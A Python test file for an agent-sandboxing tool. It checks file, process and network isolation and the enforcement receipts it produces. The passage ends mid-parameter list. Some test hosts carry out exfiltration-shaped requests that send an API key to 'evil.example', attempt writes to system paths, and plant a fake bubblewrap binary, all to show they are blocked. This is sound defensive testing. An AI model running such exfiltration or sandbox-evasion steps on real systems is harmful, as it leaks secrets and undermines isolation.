"""What holds a host really holds it, and the receipt says what did."""

from __future__ import annotations

import functools
import json
import os
import resource
import socket
import subprocess
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager, suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import anyio
import msgspec
import pytest

from backplane.agents import rows
from backplane.config import Settings, tighter
from backplane.contract.events import AssistantDelta
from backplane.contract.work import PolicyProfile, RuntimeConfig
from backplane.errors import DENIAL, PolicyError
from backplane.policy.globs import compile_globs
from backplane.policy.rules import PROFILES, compile_policy
from backplane.process import guard as _guard
from backplane.process.aio import beside, receive, send
from backplane.runtime.backends import Backend, ProcessBackend
from backplane.runtime.plane import ControlPlane
from backplane.runtime.run import Run
from backplane.runtime.state import StateFolder
from backplane.sandbox import labels, landlock, mounts, proxy
from backplane.sandbox.http import Refused
from backplane.sandbox.probe import Name, Probe, probe
from backplane.sandbox.proxy import ConnectionRules, Connections
from tests.layers import without
from tests.peers import PYTHON, ROOT
from tests.runs import QUICK, go, mock_backend, not_begun, order, script

pytestmark = [pytest.mark.anyio, pytest.mark.needs("bwrap")]

ALLOWED_S = 5.0

TRY = """
import errno, socket
def attempt(work):
    try:
        return work()
    except OSError as fault:
        return errno.errorcode.get(fault.errno or 0, repr(fault))
def write(path, text="x"):
    def work():
        with open(path, "w") as file: file.write(text)
        return "ok"
    return attempt(work)
def read(path):
    return attempt(lambda: open(path).read())
hello(); run = take(); root = run["work_order"]["workspace"]["root"]; os.chdir(root)
"""


def cell(folder: Path, expression: str, **options: Any) -> Backend:
    """A host that works out one Python expression and says its value as JSON."""
    folder.mkdir(exist_ok=True)
    body = f"{TRY}\nput(event(run, json.dumps({expression}))); put(final(run)); end()"
    return script(folder, body, **options)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    made = tmp_path / "project"
    made.mkdir()
    (made / "a.txt").write_text("a\n")
    (made / ".env").write_text("TOKEN=1\n")
    (made / "keys").mkdir()
    (made / "keys/x.pem").write_text("KEY")
    return made


@pytest.fixture
def found() -> Probe:
    found = probe(os.environ)
    if not found.landlock.usable:
        pytest.skip("needs landlock: " + found.landlock.why)
    return found


def control(home: Path, layers: Probe | None = None, isolation: Any = "best_effort") -> ControlPlane:
    made = ControlPlane(Settings(limits=QUICK, isolation=isolation), home, os.environ)
    made.layers = layers
    return made


async def ask(plane: ControlPlane, host: Backend, root: Path, mode: str = "pass_through", **members: Any) -> Any:
    """Run a cell, and give what it said and the receipt's word on what held it."""
    async with plane:
        run, events = await go(plane, order(root, mode=mode, **members), host)
    assert run.end_error is None, (run.end_error, run.end_error.evidence)
    texts = [event.text for event in events if isinstance(event, AssistantDelta)]
    return json.loads(texts[0]), enforcement(run)


def enforcement(run: Run) -> dict[str, Any]:
    found = run.receipt.backplane["enforcement"]
    assert isinstance(found, dict)
    return found


def abp(**members: Any) -> RuntimeConfig:
    return RuntimeConfig(vendor={"abp": members})


def policy(**lists: tuple[str, ...]) -> PolicyProfile:
    return PolicyProfile(**lists)


# Files ----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mode", "hidden"), [("staged", ()), ("pass_through", ("bubblewrap",)), ("staged", ("landlock",))]
)
async def test_a_host_writes_in_its_workspace_and_nowhere_else(
    mode: str, hidden: tuple[Name, ...], found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    said, held = await ask(
        control(backplane_home, without(found, *hidden)),
        cell(
            tmp_path / "bin",
            f'[write("new"), write({str(other / "x")!r}), write("/etc/x"), write(os.environ["TMPDIR"] + "/x"),'
            ' attempt(lambda: os.rename("a.txt", os.environ["TMPDIR"] + "/a")),'
            ' write("/dev/null"), write("/dev/stderr")]',
        ),
        root,
        mode,
    )
    inside, beside, system, scratch, _, null, stderr = said
    assert (inside, scratch, null, stderr) == ("ok", "ok", "ok", "ok")
    assert beside != "ok"
    assert system in ("EROFS", "EACCES")
    assert not list(other.iterdir())
    assert not os.access("/etc/x", os.F_OK)
    assert held["kinds"]["files"]["state"] == "partial"
    by = " ".join(held["kinds"]["files"]["by"])
    assert ("bubblewrap" in by, "landlock" in by) == ("bubblewrap" not in hidden, "landlock" not in hidden)
    assert not list((backplane_home / "scratch").iterdir())


@pytest.mark.parametrize("mode", ["pass_through", "staged"])
async def test_copies_may_be_on_another_disk_by_a_link(
    mode: str, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    disk = tmp_path / "disk"
    disk.mkdir(mode=0o700)
    (backplane_home / "stage").symlink_to(disk)
    said, _ = await ask(
        control(backplane_home),
        cell(tmp_path / "bin", '[root, write("new"), read("a.txt"), read("keys/x.pem")]'),
        root,
        mode,
        policy=policy(deny_read=("keys/*.pem",)),
    )
    assert said[1:] == ["ok", "a\n", "EACCES"]
    assert Path(said[0]).is_relative_to(disk if mode == "staged" else root)
    assert not list(disk.iterdir())
    # What a killed control plane has left there goes, too.
    left = "0ee63a0e-33b9-47fb-98a5-8a055f55b712"
    assert StateFolder(backplane_home).make_tree(left) == disk / left / "tree"
    with StateFolder(backplane_home).store():
        assert not list(disk.iterdir())


async def test_settings_of_the_kernel_cannot_be_written(backplane_home: Path, root: Path, tmp_path: Path) -> None:
    # Asked, not tried: a test that fails here would change the machine.
    paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/sys/kernel/mm/ksm/run"]
    said, _ = await ask(
        control(backplane_home), cell(tmp_path / "bin", f"[os.access(path, os.W_OK) for path in {paths}]"), root
    )
    assert said == [False, False, False]


async def test_sockets_of_the_system_and_the_state_folder_are_out_of_sight(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    (backplane_home / "secret").write_text("x")
    said, _ = await ask(
        control(backplane_home),
        cell(
            tmp_path / "bin",
            f'[read({str(backplane_home / "secret")!r}), os.path.exists("/run/docker.sock"), os.listdir("/run")]',
        ),
        root,
    )
    assert said[:2] == ["ENOENT", False]
    assert "lock" not in said[2]


@pytest.mark.parametrize(
    ("state", "isolation"),
    [
        ("there", "best_effort"),
        ("missing/deep/.agent", "best_effort"),
        ("missing/deep/.agent", "off"),
        ("state of the host", "best_effort"),
        ("no such state", "best_effort"),
    ],
)
async def test_every_folder_that_a_backend_may_write_is_writable_in_the_first_run(
    state: str, isolation: str, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    (tmp_path / "there").mkdir()
    own = f"{tmp_path}/{state}"
    host = cell(tmp_path / "bin", f"write({own + '/x'!r})", writable=(own,))
    config = abp()
    if "state" in state:
        own = str(backplane_home / "agents" / "cell")
        host = cell(tmp_path / "bin", f"write({own + '/x'!r})", env={rows.STATE: own})
        config = abp(session={"keep": True}) if state.startswith("state") else abp()
    said, held = await ask(control(backplane_home, isolation=isolation), host, root, config=config)
    if state == "no such state":
        assert said == "ENOENT"
        return
    assert said == "ok"
    assert (Path(own) / "x").exists()
    if isolation != "off":
        assert own.rstrip("/") in held["kinds"]["files"]["covers"]
        assert "not_there" not in held["kinds"]["files"]


async def test_a_missing_file_that_a_backend_may_write_is_named(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    host = cell(tmp_path / "bin", "1", writable=(str(tmp_path / ".agent.json"),))
    _, held = await ask(control(backplane_home), host, root)
    assert held["kinds"]["files"]["not_there"] == [str(tmp_path / ".agent.json")]


@pytest.mark.parametrize("isolation", ["best_effort", "off"])
async def test_a_folder_for_writing_that_cannot_be_made_is_refused_by_its_name(
    isolation: str, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    own = str(root / "a.txt" / "state")
    async with control(backplane_home, isolation=isolation) as plane:
        run, _ = await go(plane, order(root), cell(tmp_path / "bin", "1", writable=(own,)))
    assert run.error is not None
    assert (run.error.code, own in run.error.message) == ("backend_unavailable", True)


@pytest.mark.parametrize("mode", ["pass_through", "staged"])
async def test_what_may_not_be_read_is_hidden_in_the_copy_and_in_the_original(
    mode: str, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    (root / "link").symlink_to(".env")
    said, held = await ask(
        control(backplane_home),
        cell(
            tmp_path / "bin",
            '[read(".env"), read("link"), read("keys/x.pem"), attempt(lambda: os.rename("keys", "k2")), read("a.txt"),'
            f" read({str(root / '.env')!r})]",
        ),
        root,
        mode,
        policy=policy(deny_read=("**/.env*", "**/*.pem")),
    )
    assert said == ["EACCES", "EACCES", "EACCES", "EBUSY", "a\n", "EACCES"]
    rows = {row["pattern"]: row for row in held["rules"]}
    assert rows["**/.env*"]["layer"] == "os"
    assert mounts.LATER in rows["**/.env*"]["gap"]
    assert held["kinds"]["files"]["state"] == "partial"


def test_only_rules_on_more_than_gits_own_files_need_the_tree_first() -> None:
    git, more = ("**/.git/hooks/**", ".git/config"), ("**/.git/hooks/**", "**/.github/**")
    assert [mounts.needs_tree(policy(deny_write=patterns)) for patterns in ((), git, more)] == [False, False, True]
    assert mounts.needs_tree(policy(deny_read=git))


@pytest.mark.parametrize("glob", [".git/{config,index}", "**/.git/refs/**"])
async def test_a_rule_on_any_file_of_the_agents_repository_is_held(
    glob: str, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    paths = [".git/HEAD", ".git/config", ".git/index", ".git/refs/heads/main", ".git/info/exclude", ".git/hooks/x"]
    said, held = await ask(
        control(backplane_home),
        cell(tmp_path / "bin", f"[write(path) for path in {paths!r}]"),
        root,
        "staged",
        policy=policy(deny_write=(glob,)),
    )
    globs = compile_globs((glob,))
    assert said == ["EROFS" if globs.matches(path) else "ok" for path in paths]
    assert {row["layer"] for row in held["rules"]} == {"os"}


async def test_a_folder_that_may_not_be_written_cannot_be_filled_or_moved_away(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    said, held = await ask(
        control(backplane_home),
        cell(
            tmp_path / "bin",
            '[write("keys/new"), write("keys/x.pem"), attempt(lambda: os.rename("keys", "k2")), read("keys/x.pem"),'
            ' attempt(lambda: os.mkdir("other"))]',
        ),
        root,
        policy=policy(deny_write=("keys/**",)),
    )
    assert said == ["EROFS", "EROFS", "EBUSY", "KEY", None]
    assert [row["layer"] for row in held["rules"] if row["rule"] == "deny_write"] == ["os"]


@pytest.mark.needs("git")
async def test_the_agents_repository_works_and_its_hooks_and_settings_are_closed(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    git = '["git", "-c", "user.name=a", "-c", "user.email=a@localhost", "commit", "-qam", "x"]'
    said, held = await ask(
        control(backplane_home),
        cell(
            tmp_path / "bin",
            '[write("a.txt", "b"), __import__("subprocess").run(' + git + ", stdout=2).returncode,"
            ' write(".git/hooks/pre-commit"), write(".git/config"), attempt(lambda: os.rename(".git", "g"))]',
        ),
        root,
        "staged",
    )
    assert said == ["ok", 0, "EROFS", "EROFS", "EBUSY"]
    assert {row["layer"] for row in held["rules"]} == {"os"}


@pytest.mark.parametrize(
    ("patterns", "unmatched"),
    [
        (("sub/**",), ()),
        (("sub/b.*",), ()),
        (("{no,sub}/**",), ()),
        (("sub/**", "sub/b.txt", "**/b.txt"), ("sub/b.txt", "**/b.txt")),
        (("**",), ()),
        (("nowhere/**", "sub/**"), ("nowhere/**",)),
        (("su",), ("su",)),
        (("link",), ("link",)),
    ],
)
def test_a_rule_that_named_nothing_at_the_start_is_held_by_no_mount(
    tmp_path: Path, patterns: tuple[str, ...], unmatched: tuple[str, ...]
) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "b.txt").touch()
    (tmp_path / "link").symlink_to("sub")
    assert mounts.work_out(policy(deny_write=patterns), str(tmp_path), (), ()).unmatched == unmatched


async def test_a_rule_that_named_nothing_at_the_start_is_left_to_the_next_layer(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    closed = policy(deny_write=("keys/**", "nowhere"))
    said, held = await ask(control(backplane_home), cell(tmp_path / "bin", 'write("keys/new")'), root, policy=closed)
    assert said == "EROFS"
    rows = {row["pattern"]: row["layer"] for row in held["rules"]}
    assert (rows["keys/**"], rows["nowhere"]) == ("os", "audit")
    demanding = order(root, policy=closed, config=abp(enforcement={"deny_write": "os"}))
    async with control(backplane_home) as plane:
        run, _ = await go(plane, demanding, cell(tmp_path / "bin", "1"))
    assert run.error is not None
    assert (run.error.code, run.error.facts.exit_code) == ("capability_unsupported", 4)
    assert "'nowhere'" in run.error.message


async def test_too_many_places_to_cover_are_left_to_the_next_layer(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    for number in range(mounts.MASKS_MAX + 1):
        (root / f"{number}.key").touch()
    closed = policy(deny_read=("*.key",))
    said, held = await ask(control(backplane_home), cell(tmp_path / "bin", 'read("1.key")'), root, policy=closed)
    assert said == ""
    assert [row["layer"] for row in held["rules"] if row["rule"] == "deny_read"] == ["audit"]
    assert mounts.TOO_MANY in held["kinds"]["files"]["gap"]
    demanding = order(root, policy=closed, config=abp(enforcement={"deny_read": "os"}))
    async with control(backplane_home) as plane:
        run, _ = await go(plane, demanding, cell(tmp_path / "bin", "1"))
    assert run.error is not None
    assert (run.error.code, run.error.facts.exit_code) == ("capability_unsupported", 4)


# Processes ------------------------------------------------------------------------------------------------------------


async def test_a_host_sees_its_own_processes_alone(backplane_home: Path, root: Path, tmp_path: Path) -> None:
    pids = '[pid for pid in os.listdir("/proc") if pid.isdigit()]'
    said, held = await ask(control(backplane_home), cell(tmp_path / "bin", f"[{pids}, os.getpid()]"), root)
    assert len(said[0]) == 2
    assert said[1] == 2
    assert held["kinds"]["processes"]["state"] == "enforced"


KILLED = """
import os, sys, anyio
sys.path.insert(0, {tests!r})
from pathlib import Path
from tests.runs import *
async def main():
    host = script(Path({folder!r}), {body!r})
    async with ControlPlane(Settings(limits=QUICK), Path({home!r}), os.environ) as control:
        async with control.start(order(Path({root!r})), host) as run:
            async for event in run: print(event.text, flush=True)
anyio.run(main)
"""


def plane_of(body: str, home: Path, root: Path, folder: Path, **env: str) -> subprocess.Popen[bytes]:
    """A control plane of its own that runs this host, and prints the texts of its events."""
    folder.mkdir()
    program = KILLED.format(tests=str(ROOT), folder=str(folder), body=body, home=str(home), root=str(root))
    return subprocess.Popen([*PYTHON, "-c", program], stdout=subprocess.PIPE, cwd=ROOT, env=os.environ | env)


def until(true: Callable[[], object], within_s: float = ALLOWED_S) -> bool:
    end = time.monotonic() + within_s
    while not true() and time.monotonic() < end:
        time.sleep(0.005)
    return bool(true())


def test_a_control_plane_killed_with_9_leaves_nothing(backplane_home: Path, root: Path, tmp_path: Path) -> None:
    mark = f"marked-{os.getpid()}-{time.monotonic_ns()}"
    body = f"""{TRY}
deaf()
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", "import signal,time;signal.signal(15,1);time.sleep(600)", {mark!r}])
put(event(run, "up")); time.sleep(600)
"""
    with plane_of(body, backplane_home, root, tmp_path / "bin") as plane:
        assert plane.stdout is not None
        assert plane.stdout.readline() == b"up\n"
        assert until(lambda: marked(mark)), "it has still to become this program"
        plane.kill()
    assert until(lambda: not marked(mark))


def marked(mark: str) -> list[int]:
    return [pid for pid, words in said_of_all().items() if mark in words[-2:]]


def said_of_all() -> dict[int, list[str]]:
    """The arguments of all processes."""
    found = {}
    for pid in _guard.look():
        with suppress(OSError):
            found[pid] = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace").split("\0")
    return found


# What is asked, refused and said --------------------------------------------------------------------------------------


LAYERS: list[Name] = ["bubblewrap", "landlock", "network namespace"]


@pytest.mark.parametrize("name", ["bubblewrap", "landlock"])
async def test_required_refuses_before_anything_starts_where_a_layer_is_missing(
    name: Name, found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    mark = tmp_path / "bin" / "started"
    host = cell(tmp_path / "bin", f"write({str(mark)!r})", writable=(str(mark.parent),))
    for plane, config in [
        (control(backplane_home, without(found, name), "required"), RuntimeConfig()),
        (control(backplane_home, without(found, name)), abp(isolation="required")),
    ]:
        async with plane:
            run, events = await go(plane, order(root, mode="staged", config=config), host)
        assert events == []
        assert run.error is not None
        assert (run.error.code, run.error.facts.exit_code) == ("capability_unsupported", 4)
        assert name in run.error.message
        assert not_begun(run)
    assert not mark.exists()


async def test_required_needs_the_network_namespace_only_for_rules_on_the_network(
    found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    layers = without(found, "network namespace")
    said, _ = await ask(control(backplane_home, layers, "required"), cell(tmp_path / "bin", "1"), root)
    assert said == 1
    async with control(backplane_home, layers, "required") as plane:
        run, _ = await go(plane, order(root, policy=policy(deny_network=("*",))), cell(tmp_path / "bin", "1"))
    assert run.error is not None
    assert "network namespace" in run.error.message


async def test_hiding_bubblewrap_by_its_path_is_said_in_the_receipt(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    plane = ControlPlane(Settings(limits=QUICK), backplane_home, {**os.environ, "PATH": "/nowhere"})
    _, held = await ask(plane, cell(tmp_path / "bin", "1"), root)
    layer = next(layer for layer in held["layers"] if layer["name"] == "bubblewrap")
    assert (layer["state"], layer["why"]) == ("missing", "bwrap is not found")
    assert held["kinds"]["processes"]["state"] == "partial"


PLANTED = """#!/bin/sh
[ "$1" = --version ] && echo bubblewrap 9.9 && exit
while [ "$1" != /bin/sh ] && [ "$1" != "$0" ] && [ "$1" != -- ]; do shift; done
[ "$1" = -- ] && shift
exec "$@"
"""
"""Answers like bubblewrap, and drops every option."""


def planted(folder: Path, program: str) -> dict[str, str]:
    """An environment in which this is bubblewrap."""
    folder.mkdir()
    (folder / "bwrap").write_text(program)
    (folder / "bwrap").chmod(0o755)
    return {**os.environ, "PATH": f"{folder}:{os.environ['PATH']}"}


@pytest.mark.parametrize("mode", ["pass_through", "staged"])
async def test_a_program_that_only_answers_like_bubblewrap_is_not_believed(
    mode: str, found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    environ = planted(tmp_path / "planted", PLANTED)
    mark = tmp_path / "bin" / "started"
    host = cell(tmp_path / "bin", f"write({str(mark)!r})", writable=(str(mark.parent),))
    async with ControlPlane(Settings(limits=QUICK, isolation="required"), backplane_home, environ) as plane:
        run, _ = await go(plane, order(root, mode=mode), host)
    assert run.error is not None
    assert (run.error.code, run.error.facts.exit_code) == ("capability_unsupported", 4)
    assert f"{tmp_path}/planted/bwrap makes no pid namespace" in run.error.message
    assert not mark.exists()
    said, held = await ask(ControlPlane(Settings(limits=QUICK), backplane_home, environ), host, root, mode)
    assert said == "ok"
    assert held["layers"][0]["state"] == "missing"
    assert "bubblewrap" not in json.dumps([kind.get("by") for kind in held["kinds"].values()])


@pytest.mark.parametrize("name", LAYERS)
async def test_a_hidden_layer_is_never_claimed(
    name: Name, found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    missing = {layer.name: layer.why for layer in found.layers() if not layer.usable}
    if name in missing:
        pytest.skip(f"needs {name}: {missing[name]}")
    host = cell(tmp_path / "bin", "1")
    closed = policy(deny_network=("*.example",))
    _, whole = await ask(control(backplane_home, found), host, root, policy=closed)
    _, less = await ask(control(backplane_home, without(found, name)), host, root, policy=closed)
    states = [{layer["name"]: layer["state"] for layer in held["layers"]}[name] for held in (whole, less)]
    assert states[0] in ("used", "usable")
    assert states[1] == "missing"
    by = json.dumps([kind.get("by") for kind in less["kinds"].values()])
    assert name not in by


async def test_off_puts_nothing_around_a_host_and_says_so(backplane_home: Path, root: Path, tmp_path: Path) -> None:
    beside = tmp_path / "beside"
    said, held = await ask(
        control(backplane_home, isolation="off"), cell(tmp_path / "bin", f"write({str(beside)!r})"), root
    )
    assert said == "ok"
    assert held["isolation"] == "off"
    assert held["layers"] == []
    states = {name: kind["state"] for name, kind in held["kinds"].items()}
    assert states == {
        **dict.fromkeys(("files", "credentials", "sockets", "network", "syscalls", "limits"), "none"),
        "processes": "partial",
        "environment": "partial",
    }


@pytest.mark.parametrize("hidden", [(), ("landlock",), ("bubblewrap",), ("bubblewrap", "landlock")])
async def test_the_environment_of_the_control_plane_is_closed_or_the_label_says_that_it_is_not(
    hidden: tuple[Name, ...], found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    host = cell(tmp_path / "bin", f"'PATH=' in read('/proc/{os.getpid()}/environ')")
    said, held = await ask(control(backplane_home, without(found, *hidden)), host, root)
    state = held["kinds"]["environment"]["state"]
    assert state == ("partial" if "bubblewrap" in hidden else "enforced")
    assert not (said and state == "enforced")
    assert said == (state == "partial") or os.geteuid() != 0


async def test_a_function_of_this_process_cannot_be_contained(backplane_home: Path, root: Path) -> None:
    work = mock_backend("memory")
    async with control(backplane_home) as plane:
        run, _ = await go(plane, order(root), work)
    assert {kind["state"] for kind in enforcement(run)["kinds"].values()} == {"none"}
    async with control(backplane_home, isolation="required") as plane:
        run, _ = await go(plane, order(root), work)
    assert run.error is not None
    assert run.error.code == "capability_unsupported"


def test_an_order_may_only_tighten() -> None:
    assert tighter("required", "off") == "required"
    assert tighter("best_effort", "off") == "best_effort"
    assert tighter("off", "best_effort") == "best_effort"
    assert tighter("best_effort", None) == "best_effort"
    with pytest.raises(PolicyError, match="isolation"):
        tighter("off", "strong")


@pytest.mark.parametrize(
    ("demanded", "code"),
    [
        ({"disallowed_tools": "os"}, "capability_unsupported"),
        ({"disallowed_tools": "host"}, "capability_unsupported"),  # The script does not ask.
        ({"disallowed_tools": "audit", "workspace": "os", "deny_read": "os"}, None),
        ({"deny_everything": "os"}, "policy_invalid"),
        ({"deny_read": "magic"}, "policy_invalid"),
        ("os", "policy_invalid"),
    ],
)
async def test_a_layer_that_an_order_demands_is_there_or_the_order_is_refused(
    demanded: Any, code: str | None, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    async with control(backplane_home) as plane:
        demanding = order(root, config=abp(enforcement=demanded), policy=policy(deny_read=("**/.env",)))
        run, events = await go(plane, demanding, cell(tmp_path / "bin", "1"))
    assert (run.end_error.code if run.end_error else None) == code
    assert run.end_error is None or (run.end_error.facts.exit_code == 4 and events == [])


async def test_a_demand_on_the_system_is_refused_with_isolation_off(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    demanding = order(root, config=abp(enforcement={"workspace": "os"}))
    async with control(backplane_home, isolation="off") as plane:
        run, _ = await go(plane, demanding, cell(tmp_path / "bin", "1"))
    assert run.error is not None
    assert run.error.code == "capability_unsupported"


async def test_a_plane_inside_a_cage_says_which_layers_it_could_not_have(
    backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    inner = [*PYTHON, "-m", "backplane", "run", "true", "--backend", "shell", "--receipt", "r.json", "--root", "."]
    expression = (
        f'[__import__("subprocess").run({inner!r}, env=dict(os.environ, BACKPLANE_HOME=os.environ["TMPDIR"] + "/b",'
        f' PYTHONPATH={str(ROOT)!r}), stdout=2).returncode, read("r.json")]'
    )
    said, outer = await ask(control(backplane_home), cell(tmp_path / "bin", expression), root)
    assert said[0] == 0
    held = json.loads(said[1])["usage_raw"]["backplane"]["enforcement"]
    layers = {layer["name"]: layer for layer in held["layers"]}
    assert layers["bubblewrap"]["state"] == "missing"
    assert layers["bubblewrap"]["why"]
    assert layers["landlock"]["state"] == "used"
    assert outer["kinds"]["processes"]["state"] == "enforced"


def test_landlock_of_a_kernel_that_knows_less_guards_less() -> None:
    sizes = {version: len(landlock.rules(version, ["/x"])[0]) for version in (2, 3, 4, 6, 7)}
    assert sizes == {2: 8, 3: 8, 4: 16, 6: 24, 7: 24}
    assert landlock.rules(2, [])[1] & (1 << 14) == 0
    assert landlock.rules(3, [])[1] & (1 << 14)
    assert landlock.rules(3, [], tcp_port=1)[4] == []
    assert len(landlock.rules(4, [], tcp_port=1)[4]) == 1


# Network --------------------------------------------------------------------------------------------------------------


@contextmanager
def site(answer: bytes = b"welcome") -> Iterator[int]:
    """A web site on this machine's loopback."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Quiet."""

    server = HTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


FETCH = """
import urllib.request, urllib.error
def fetch(url):
    try:
        return urllib.request.urlopen(url, timeout=4).read().decode()
    except urllib.error.HTTPError as fault:
        return f"{fault.code} {fault.read().decode().strip()}"
    except OSError as fault:
        return "unreachable"
def tunnel(to, say=b"GET / HTTP/1.0\\r\\n\\r\\n"):
    address = os.environ["HTTPS_PROXY"].rpartition("/")[2].split(":")
    with socket.create_connection((address[0], int(address[1])), 4) as line:
        line.sendall(b"CONNECT " + to.encode() + b" HTTP/1.1\\r\\nHost: " + to.encode() + b"\\r\\n\\r\\n")
        answer = line.recv(4096)
        if b" 200 " not in answer: return answer.decode()
        line.sendall(say)
        return b"".join(iter(lambda: line.recv(4096), b"")).decode()
def direct(port):
    return attempt(lambda: socket.create_connection(("127.0.0.1", port), 2).close() or "ok")
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        return attempt(lambda: line.sendto(b"x", ("192.0.2.1", 53)))
"""


def surfer(folder: Path, expression: str, **options: Any) -> Backend:
    folder.mkdir(exist_ok=True)
    body = f"import socket\n{TRY}\n{FETCH}\nput(event(run, json.dumps({expression}))); put(final(run)); end()"
    return script(folder, body, **options)


async def test_only_listed_hosts_are_reached_and_only_through_the_door(
    found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    with site() as port, site(b"other") as other:
        said, held = await ask(
            control(backplane_home, found, "required"),
            surfer(
                tmp_path / "bin",
                f'[fetch("http://127.0.0.1:{port}/x"), tunnel("127.0.0.1:{port}"), fetch("http://127.0.0.1:{other}/"),'
                f' tunnel("127.0.0.1:{other}"), direct({port}), udp()]',
            ),
            root,
            policy=policy(allow_network=(f"127.0.0.1:{port}",)),
        )
    assert said[0] == "welcome"
    assert said[1].endswith("welcome")
    assert said[2].startswith("403 ")
    assert f"403 {DENIAL}: " in said[3]
    assert said[4] == "ECONNREFUSED"
    assert said[5] == "ENETUNREACH"
    assert held["kinds"]["network"]["state"] == "enforced"
    assert [row["layer"] for row in held["rules"] if row["rule"] == "allow_network"] == ["os"]


async def test_what_the_door_refused_is_told_without_secrets_users_and_queries(
    found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    key = "sk-Zq8Xw71LmNp0RtUvYb3C"
    plane = control(backplane_home, found)
    host = surfer(
        tmp_path / "bin",
        "[fetch('http://evil.example/?key=' + os.environ['MYKEY']), tunnel(os.environ['MYKEY'] + '.evil.example:443'),"
        " fetch('http://evil.example/' + os.environ['MYKEY']), fetch('http://evil.example/way?other=words#there'),"
        " tunnel('user:other-words@evil.example:443')]",
    )
    members: dict[str, Any] = {"config": RuntimeConfig(env={"MYKEY": key}), "policy": policy(deny_network=("**",))}
    async with plane:
        run, _ = await go(plane, order(root, mode="pass_through", **members), host)
    network = run.receipt.backplane["network"]
    assert network["denied"] == 5
    assert any("/way'" in reason for reason in network["refusals"])
    assert not any(key in reason or "other" in reason for reason in network["refusals"])


async def test_without_a_namespace_only_the_proxy_can_be_reached_and_the_rest_is_said(
    found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    with site() as port:
        said, held = await ask(
            control(backplane_home, without(found, "bubblewrap")),
            surfer(tmp_path / "bin", f'[fetch("http://127.0.0.1:{port}/x"), direct({port})]'),
            root,
            policy=policy(allow_network=("127.0.0.1",)),
        )
    assert said == ["welcome", "EACCES"]
    assert held["kinds"]["network"]["state"] == "partial"
    assert "TCP" in held["kinds"]["network"]["gap"]


async def test_a_backends_own_endpoint_is_reached_whatever_the_rules_and_listed(
    found: Probe, backplane_home: Path, root: Path, tmp_path: Path
) -> None:
    with site() as port:
        host = surfer(tmp_path / "bin", f'fetch("http://127.0.0.1:{port}/")', endpoints=(f"127.0.0.1:{port}",))
        async with control(backplane_home, found) as plane:
            run, events = await go(plane, order(root, policy=policy(deny_network=("*",))), host)
    assert [event.text for event in events if isinstance(event, AssistantDelta)] == ['"welcome"']
    assert run.receipt.backplane["endpoints"] == [f"127.0.0.1:{port}"]
    assert run.receipt.backplane["network"] == {"allowed": 1, "denied": 0, "hosts": [f"127.0.0.1:{port}"]}


@pytest.mark.needs("node")
async def test_the_shipped_and_the_foreign_hosts_work_in_the_cage(
    found: Probe, needs: Callable[[str], str], backplane_home: Path, root: Path
) -> None:
    hosts = {
        "shell": (*PYTHON, str(ROOT / "hosts/shell.py")),
        "mock": (*PYTHON, str(ROOT / "hosts/mock.py")),
        "node": (needs("node"), str(ROOT / "hosts/node/echo.mjs")),
        "sh": ("/bin/sh", str(ROOT / "hosts/sh/echo.sh")),
    }
    for name, argv in hosts.items():
        async with control(backplane_home, found, "required") as plane:
            run, _ = await go(plane, order(root, task="true", mode="staged"), ProcessBackend(id=name, argv=argv))
        assert (name, run.error, run.receipt.outcome) == (name, None, "complete")


@pytest.mark.parametrize(
    ("lists", "host", "address", "refused"),
    [
        ({"allow_network": ("a.example",)}, "a.example", "93.184.216.34", False),
        ({"allow_network": ("a.example",)}, "a.example", "127.0.0.1", True),
        ({"allow_network": ("a.example",)}, "a.example", "::1", True),
        ({"allow_network": ("a.example",)}, "a.example", "::ffff:10.0.0.1", True),
        ({"allow_network": ("a.example",)}, "a.example", "169.254.169.254", True),
        ({"allow_network": ("a.example",)}, "a.example", "fe80::1", True),
        ({"allow_network": ("a.example", "10.0.0.1")}, "a.example", "10.0.0.1", False),
        ({"allow_network": ("localhost",)}, "localhost", "127.0.0.1", False),
        ({"allow_network": ("localhost",)}, "localhost", "10.0.0.1", True),
